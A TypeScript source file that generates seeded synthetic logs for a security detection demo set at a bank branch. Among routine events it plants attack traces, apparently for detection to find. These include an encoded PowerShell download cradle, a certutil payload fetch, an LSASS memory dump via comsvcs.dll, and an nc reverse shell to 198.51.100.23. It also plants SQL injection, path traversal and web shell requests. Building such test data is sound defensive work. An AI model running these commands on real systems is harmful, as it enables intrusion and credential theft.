import { seededRandom as prng } from '../../core/random.ts';

// The demo data set: one day at a small bank branch, with a handful of real attack traces among routine
// activity. Deterministic (seeded), so the demo's detections are the same on every machine.

export type DemoOptions = {
  /** Start of the simulated day, ms UTC. */
  readonly start: number;
  readonly seed?: number;
  /** Scales the routine (benign) volume; attacks stay the same. */
  readonly scale?: number;
};

/** File name (relative) → content. */
export type DemoFiles = Map<string, string>;

const SYSMON = { name: 'Microsoft-Windows-Sysmon', guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' };
const SECURITY = { name: 'Microsoft-Windows-Security-Auditing', guid: '54849625-5478-4994-A5BA-3E3B0328C30D' };
const SYSTEM_SCM = { name: 'Service Control Manager', guid: '555908D1-A6D7-4695-8E1E-26931D2012F4' };
const EVENTLOG = { name: 'Microsoft-Windows-Eventlog', guid: 'FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148' };

type Provider = { name: string; guid: string };

class WindowsLog {
  #record = 1000;
  readonly lines: string[] = [];
  readonly computer: string;
  constructor(computer: string) {
    this.computer = computer;
  }
  add(
    channel: string,
    provider: Provider,
    eventId: number,
    time: number,
    data: Record<string, unknown>,
    userData = false,
  ): void {
    const iso = new Date(time).toISOString().replace('Z', '000Z');
    const system = {
      Provider: { '#attributes': { Name: provider.name, Guid: provider.guid } },
      EventID: eventId,
      Version: 2,
      Level: 4,
      Task: 0,
      Opcode: 0,
      Keywords: '0x8000000000000000',
      TimeCreated: { '#attributes': { SystemTime: iso } },
      EventRecordID: this.#record++,
      Correlation: null,
      Execution: { '#attributes': { ProcessID: 4, ThreadID: 88 } },
      Channel: channel,
      Computer: this.computer,
      Security: { '#attributes': { UserID: 'S-1-5-18' } },
    };
    const event = {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: system,
        ...(userData ? { UserData: data } : { EventData: data }),
      },
    };
    this.lines.push(JSON.stringify(event));
  }
}

const ROUTINE_PROCESSES: readonly (readonly [string, string, string])[] = [
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "\\\\fs01\\branch\\cash-position.xlsx"',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\notepad.exe',
    'notepad.exe C:\\Users\\k.sato\\Documents\\memo.txt',
    'C:\\Windows\\explorer.exe',
  ],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe', 'C:\\Windows\\System32\\svchost.exe'],
  [
    'C:\\Windows\\System32\\conhost.exe',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'C:\\Windows\\System32\\cmd.exe',
  ],
];

function sysmonProcess(
  log: WindowsLog,
  time: number,
  image: string,
  commandLine: string,
  parentImage: string,
  user: string,
  pid: number,
): void {
  log.add('Microsoft-Windows-Sysmon/Operational', SYSMON, 1, time, {
    RuleName: '-',
    UtcTime: new Date(time).toISOString().replace('T', ' ').replace('Z', ''),
    ProcessGuid: `{0197231E-C424-69E1-C922-${pid.toString(16).padStart(12, '0').toUpperCase()}}`,
    ProcessId: pid,
    Image: image,
    FileVersion: '10.0.19041.1',
    Description: image.split('\\').pop() ?? image,
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: image.split('\\').pop() ?? image,
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Users\\k.sato\\',
    User: user,
    LogonGuid: '{0197231E-C3F1-69E1-E7A4-0B0000000000}',
    LogonId: '0xba4e7',
    TerminalSessionId: 1,
    IntegrityLevel: 'Medium',
    Hashes: 'SHA256=' + 'A'.repeat(64),
    ParentProcessGuid: '{0197231E-C3F2-69E1-2A00-000000000800}',
    ParentProcessId: 4120,
    ParentImage: parentImage,
    ParentCommandLine: parentImage,
    ParentUser: user,
  });
}

function windows(start: number, rnd: () => number, scale: number): { ws: string; dc: string } {
  const ws = new WindowsLog('BR042-WS07.branch.example');
  const dc = new WindowsLog('BR042-DC01.branch.example');
  const hour = 3600e3;
  // routine: a day of process starts and logons
  const routine = Math.round(1500 * scale);
  for (let i = 0; i < routine; i++) {
    const t = start + Math.floor((i / routine) * 24 * hour);
    const p = ROUTINE_PROCESSES[Math.floor(rnd() * ROUTINE_PROCESSES.length)]!;
    sysmonProcess(ws, t, p[0], p[1], p[2], 'BRANCH\\k.sato', 5000 + i);
    if (i % 5 === 0) {
      dc.add('Security', SECURITY, 4624, t + 500, {
        SubjectUserSid: 'S-1-0-0',
        TargetUserName: 'k.sato',
        TargetDomainName: 'BRANCH',
        LogonType: 3,
        IpAddress: '10.42.0.17',
        WorkstationName: 'BR042-WS07',
        AuthenticationPackageName: 'Kerberos',
      });
    }
  }
  // 10:14 — a phishing attachment spawns encoded PowerShell from Excel
  const t0 = start + 10 * hour + 14 * 60e3;
  const enc = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')",
    'utf16le',
  ).toString('base64');
  sysmonProcess(
    ws,
    t0,
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    `powershell.exe -NoP -W Hidden -enc ${enc}`,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    'BRANCH\\k.sato',
    7321,
  );
  // 10:16 — certutil fetches a second stage
  sysmonProcess(
    ws,
    t0 + 2 * 60e3,
    'C:\\Windows\\System32\\certutil.exe',
    'certutil.exe -urlcache -split -f http://203.0.113.50/s.exe C:\\Users\\Public\\s.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'BRANCH\\k.sato',
    7402,
  );
  // 10:21 — LSASS memory dumped through comsvcs.dll
  sysmonProcess(
    ws,
    t0 + 7 * 60e3,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\l.dmp full',
    'C:\\Users\\Public\\s.exe',
    'BRANCH\\k.sato',
    7533,
  );
  // 10:40 — password spraying against the domain controller from the workstation
  for (let i = 0; i < 40; i++) {
    dc.add('Security', SECURITY, 4625, t0 + 26 * 60e3 + i * 3e3, {
      TargetUserName: ['a.suzuki', 'm.tanaka', 'admin', 'h.ito'][i % 4],
      TargetDomainName: 'BRANCH',
      Status: '0xc000006d',
      SubStatus: '0xc000006a',
      LogonType: 3,
      IpAddress: '10.42.0.17',
      WorkstationName: 'BR042-WS07',
      AuthenticationPackageName: 'NTLM',
    });
  }
  // 11:05 — persistence as a service, then the Security log is cleared
  dc.add('System', SYSTEM_SCM, 7045, t0 + 51 * 60e3, {
    ServiceName: 'WinUpdSvc',
    ImagePath: 'C:\\Users\\Public\\s.exe -svc',
    ServiceType: 'user mode service',
    StartType: 'auto start',
    AccountName: 'LocalSystem',
  });
  dc.add(
    'Security',
    EVENTLOG,
    1102,
    t0 + 53 * 60e3,
    {
      LogFileCleared: {
        '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' },
        SubjectUserSid: 'S-1-5-21-1-2-3-500',
        SubjectUserName: 'admin',
        SubjectDomainName: 'BRANCH',
        SubjectLogonId: '0x3e7',
      },
    },
    true,
  );
  return { ws: ws.lines.join('\n') + '\n', dc: dc.lines.join('\n') + '\n' };
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/**
 * rsyslog's default file timestamp on Debian 12 (RFC 3339, microseconds): unlike the BSD `Nov  2 02:30:00` it
 * carries the year, so the demo's auth.log lands on the demo day whatever year it is read in.
 */
function rsyslogTime(ms: number): string {
  return new Date(ms).toISOString().replace('Z', '000+00:00');
}

function authLog(start: number, rnd: () => number, scale: number): string {
  const host = 'br042-jump01';
  const lines: string[] = [];
  const routine = Math.round(800 * scale);
  let pid = 20000;
  for (let i = 0; i < routine; i++) {
    const t = start + Math.floor((i / routine) * 86400e3);
    const user = ['ops', 'backup', 'k.sato'][Math.floor(rnd() * 3)]!;
    if (i % 4 === 0)
      lines.push(
        `${rsyslogTime(t)} ${host} CRON[${pid++}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
      );
    else
      lines.push(
        `${rsyslogTime(t)} ${host} sshd[${pid++}]: Accepted publickey for ${user} from 10.42.0.${10 + (i % 20)} port ${40000 + i} ssh2: ED25519 SHA256:q1w2e3r4t5`,
      );
  }
  // 02:30 — SSH brute force from outside, then a success
  const t0 = start + 2.5 * 3600e3;
  for (let i = 0; i < 60; i++) {
    lines.push(
      `${rsyslogTime(t0 + i * 2e3)} ${host} sshd[${pid++}]: Failed password for invalid user ${['admin', 'oracle', 'test', 'ubuntu'][i % 4]} from 198.51.100.23 port ${50000 + i} ssh2`,
    );
  }
  lines.push(
    `${rsyslogTime(t0 + 130e3)} ${host} sshd[${pid}]: Accepted password for ops from 198.51.100.23 port 51999 ssh2`,
  );
  // the timestamps are fixed-width: compare them as text (a stable sort keeps same-second lines in order)
  lines.sort((a, b) => (a.slice(0, 32) < b.slice(0, 32) ? -1 : a.slice(0, 32) > b.slice(0, 32) ? 1 : 0));
  return lines.join('\n') + '\n';
}

function clfTime(ms: number): string {
  const d = new Date(ms);
  const pad = (n: number): string => String(n).padStart(2, '0');
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}

function webLog(start: number, rnd: () => number, scale: number): string {
  const lines: string[] = [];
  const pages = [
    '/',
    '/login',
    '/accounts/summary',
    '/transfer',
    '/static/app.js',
    '/static/site.css',
    '/api/rates?ccy=USD',
  ];
  const agents = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Safari/604.1',
  ];
  const routine = Math.round(1200 * scale);
  for (let i = 0; i < routine; i++) {
    const t = start + Math.floor((i / routine) * 86400e3);
    const page = pages[Math.floor(rnd() * pages.length)]!;
    lines.push(
      `10.42.1.${20 + (i % 50)} - - [${clfTime(t)}] "GET ${page} HTTP/1.1" 200 ${1000 + Math.floor(rnd() * 9000)} "https://ib.branch.example/" "${agents[i % 2]}"`,
    );
  }
  const t0 = start + 14 * 3600e3;
  const attacks = [
    `GET /accounts/summary?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 500 312`,
    `GET /static/..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1" 400 0`,
    `GET /uploads/shell.php?cmd=whoami HTTP/1.1" 200 14`,
    `GET /uploads/shell.php?cmd=cat%20/etc/shadow HTTP/1.1" 200 1022`,
  ];
  attacks.forEach((a, i) =>
    lines.push(`192.0.2.66 - - [${clfTime(t0 + i * 40e3)}] "${a} "-" "sqlmap/1.8#stable (https://sqlmap.org)"`),
  );
  return lines.join('\n') + '\n';
}

function auditLog(start: number, scale: number): string {
  const lines: string[] = [];
  let serial = 9000;
  const hex = (s: string): string => Buffer.from(s).toString('hex').toUpperCase();
  const exec = (t: number, argv: string[], exe: string, key: string): void => {
    const ts = (t / 1000).toFixed(3);
    const sn = serial++;
    lines.push(
      `type=SYSCALL msg=audit(${ts}:${sn}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1200 pid=${sn} auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=3 comm="${exe.split('/').pop()}" exe="${exe}" key="${key}"`,
    );
    lines.push(
      `type=EXECVE msg=audit(${ts}:${sn}): argc=${argv.length} ${argv.map((a, i) => `a${i}=${/[\s"]/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`,
    );
    lines.push(`type=CWD msg=audit(${ts}:${sn}): cwd="/home/ops"`);
    lines.push(`type=PROCTITLE msg=audit(${ts}:${sn}): proctitle=${hex(argv.join('\0'))}`);
  };
  const routine = Math.round(300 * scale);
  const cmds = [
    ['ls', '-la'],
    ['cat', '/var/log/syslog'],
    ['systemctl', 'status', 'nginx'],
    ['df', '-h'],
  ];
  for (let i = 0; i < routine; i++) {
    const c = cmds[i % cmds.length]!;
    exec(start + Math.floor((i / routine) * 86400e3), c, `/usr/bin/${c[0]}`, 'exec');
  }
  const t0 = start + 2.6 * 3600e3;
  exec(t0, ['wget', 'http://198.51.100.23/x', '-O', '/tmp/.x'], '/usr/bin/wget', 'exec');
  exec(t0 + 5e3, ['chmod', '+x', '/tmp/.x'], '/usr/bin/chmod', 'exec');
  exec(t0 + 9e3, ['nc', '-e', '/bin/sh', '198.51.100.23', '4444'], '/usr/bin/nc.traditional', 'exec');
  return lines.join('\n') + '\n';
}

/** Generates the demo logs. */
export function generateDemo(opts: DemoOptions): DemoFiles {
  const rnd = prng(opts.seed ?? 42);
  const scale = opts.scale ?? 1;
  const w = windows(opts.start, rnd, scale);
  return new Map([
    ['windows/BR042-WS07-sysmon.jsonl', w.ws],
    ['windows/BR042-DC01-security-system.jsonl', w.dc],
    ['linux/auth.log', authLog(opts.start, rnd, scale)],
    ['linux/audit.log', auditLog(opts.start, scale)],
    ['web/access.log', webLog(opts.start, rnd, scale)],
  ]);
}
